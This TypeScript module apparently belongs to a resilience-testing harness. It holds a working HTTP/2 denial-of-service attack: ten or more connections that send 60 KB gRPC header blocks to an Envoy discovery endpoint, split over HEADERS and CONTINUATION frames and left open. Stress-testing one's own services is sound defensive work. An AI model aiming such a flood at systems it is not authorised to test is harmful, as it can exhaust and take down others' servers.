import type { Attack } from '../attack.js';
import { flood } from '../flood.js';
import { END_HEADERS, FRAME, grpcHeaders, headerBlock, http2Frame, PREFACE, SETTINGS } from '../http2-frames.js';

const CONNECTIONS = 10;
const FRAME_BYTES = 16_384;
const BLOCK = headerBlock({
  ...grpcHeaders('/envoy.service.discovery.v3.AggregatedDiscoveryService/StreamAggregatedResources'),
  'x-filler': 'x'.repeat(60_000),
});

/** Streams whose metadata has 60 KB each, in HEADERS and CONTINUATION frames, and that stay open. */
export const attack: Attack = {
  title: `${CONNECTIONS} connections that open streams with 60 KB of metadata each`,
  run({ host, ports }, scale, signal) {
    const packet = (round: number): Buffer => {
      const id = 2 * round + 1;
      const frames: Buffer[] = [];
      for (let at = 0; at < BLOCK.length; at += FRAME_BYTES) {
        const flags = at + FRAME_BYTES >= BLOCK.length ? END_HEADERS : 0;
        const type = at === 0 ? FRAME.headers : FRAME.continuation;
        frames.push(http2Frame(type, flags, id, BLOCK.subarray(at, at + FRAME_BYTES)));
      }
      return Buffer.concat(frames);
    };
    const opening = Buffer.concat([PREFACE, SETTINGS]);
    return flood(
      { host, port: ports.grpc, connections: CONNECTIONS * scale, opening, packet },
      this.durationMs ?? 10_000,
      signal,
    );
  },
};
